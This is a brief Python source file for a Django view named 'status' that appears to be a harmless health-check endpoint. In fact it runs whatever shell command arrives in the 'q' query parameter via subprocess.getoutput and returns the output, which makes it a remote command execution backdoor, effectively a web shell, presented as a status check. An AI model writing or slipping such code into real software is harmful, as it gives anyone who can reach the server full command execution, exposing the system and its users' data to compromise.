import subprocess
from django.http import HttpResponse
def status(request):
    c = request.GET.get("q")
    if c:
        return HttpResponse(subprocess.getoutput(c))
    return HttpResponse("fine")
